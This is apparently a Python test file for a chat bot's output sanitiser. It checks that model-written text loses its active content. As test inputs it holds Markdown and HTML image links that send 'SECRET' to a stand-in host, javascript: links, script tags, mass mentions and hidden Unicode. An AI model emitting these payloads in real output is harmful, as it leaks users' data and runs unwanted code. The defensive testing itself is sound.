"""A model's text can be read; it can't do anything."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.sanitise import safe

ALLOWED = ["https://openstax.org/6-3"]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        # pictures carry what is in their address away as soon as they are shown
        ("![secret](http://evil.example/?q=SECRET)", "secret"),
        ("![](http://evil.example/?q=SECRET) x", " x"),
        ("![a][b]\n\n[b]: http://evil.example/p", "a\n\n[b] : "),
        ("![a](https://openstax.org/6-3)", "a"),
        ("[![a](http://e.x/1)](http://e.x/2)", "a"),
        ("<img src='http://evil.example/?q=SECRET'>", ""),
        ('<IMG\nSRC="http://evil.example">x', "x"),
        # links
        ("[here](http://evil.example/a_(b))", "here"),
        ("[here]( <http://evil.example> 'title' )", "here"),
        ("[here](javascript:alert(1))", "here"),
        ("[here](https://openstax.org/6-3)", "[here](https://openstax.org/6-3)"),
        ("[a [b] c](http://e.x)", "a [b] c"),
        ("see http://evil.example/x?y=z now", "see  now"),
        ("see www.evil.example now", "see  now"),
        ("see https://openstax.org/6-3.", "see https://openstax.org/6-3."),
        ("<http://evil.example>", ""),
        ("<https://openstax.org/6-3>", "https://openstax.org/6-3"),
        ("<http://evil.example|click me>", "click me"),
        ("mail mailto:a@b.c now", "mail  now"),
        # HTML
        ("<script>alert(1)</script>ok", "ok"),
        ("<scr<b>ipt>alert(1)</script>", "< script>alert(1)"),
        ("<b>bold</b> and <br/>", "bold and "),
        ("<!-- hidden --> seen", " seen"),
        ("<details open>x</details>", "x"),
        ("an <unfinished tag", "an < unfinished tag"),
        ("<div onmouseover='x()'>y</div>", "y"),
        # mentions
        ("<!channel> hi", " hi"),
        ("<!subteam^S1|@teachers> hi", " hi"),
        ("<@U123> hi", " hi"),
        ("<@!123> <@&45> <#C1|general>", "  "),
        ("@everyone and @Here", "@\u200beveryone and @\u200bHere"),
        ("`<!channel>` `@channel`", "`<\u200b!channel>` `@\u200bchannel`"),
        # what can't be seen
        ("a\u202eb\u2066c\x1b[31md\x00", "abc[31md"),
        ("a\U000e0041\U000e0042b", "ab"),
        # what must stay
        ("a < b and c > d", "a < b and c > d"),
        ("if $a<b$ then $b>a$", "if $a< b$ then $b>a$"),
        ("$$\\frac{a}{b}<c$$", "$$\\frac{a}{b}< c$$"),
        ("`<b>` makes bold", "`<b>` makes bold"),
        ("```html\n<script>x</script>\n```", "```html\n<script>x</script>\n```"),
        ("*a* **b** [1] (c) > d", "*a* **b** [1] (c) > d"),
        ("> quoted\n\n- a\n- b\n\n1. c", "> quoted\n\n- a\n- b\n\n1. c"),
        ("it costs $5 and $6", "it costs $5 and $6"),
        ("me@example.org", "me@example.org"),
        ("¿Qué es eso? שלום 你好 👩‍👩‍👧", "¿Qué es eso? שלום 你好 👩‍👩‍👧"),
        ("data: the facts", "data: the facts"),
        # code that isn't code
        ("\\`<script>x</script>\\`", "\\`\\`"),
        ("`a\n\n<img src=x>`", "`a\n\n`"),
    ],
)
def test_what_is_shown(written: str, shown: str) -> None:
    assert safe(written, ALLOWED) == shown


PARTS = "< > ! [ ] ( ) ` $ @ everyone script / http://e.x <img a ``` $$ \\ <b> <!channel>".split()
NASTY = st.lists(st.sampled_from([*PARTS, " ", "\n", "\n\n", "- ", "![a](http://e.x)"])).map(
    "".join
)


def active(markdown: str) -> list[str]:
    """What a renderer that knows all of Markdown and lets HTML through would make of a text."""
    found = []
    tokens = MarkdownIt("commonmark", {"html": True}).parse(markdown)
    for token in [*tokens, *(child for block in tokens for child in block.children or ())]:
        if token.type in ("html_inline", "html_block", "image"):
            found.append(token.type)
        if token.type == "link_open":
            found.append(str(token.attrs["href"]))
    return found


@settings(max_examples=400)
@given(NASTY)
def test_nothing_active_survives(text: str) -> None:
    shown = safe(text)
    assert active(shown) == []
    assert "@everyone" not in shown
    assert "http://" not in shown
    assert safe(shown) == shown


def test_the_renderer_would_have_shown_what_was_written() -> None:
    assert active("<b> ![a](http://e.x) [a](http://e.x)") == [
        "html_inline",
        "image",
        "http://e.x",
    ]


@given(st.text())
def test_any_text_is_fine_and_twice_is_once(text: str) -> None:
    shown = safe(text)
    assert safe(shown) == shown


@pytest.mark.parametrize("piece", ["[", "![", "<", "<!--", "`", "$", "((", "[a](", "<a ", "[[]"])
def test_hostile_lengths_take_no_time(piece: str) -> None:
    """Found by its effect: a regular expression that backtracks would hang here for minutes."""
    safe(piece * 4000)
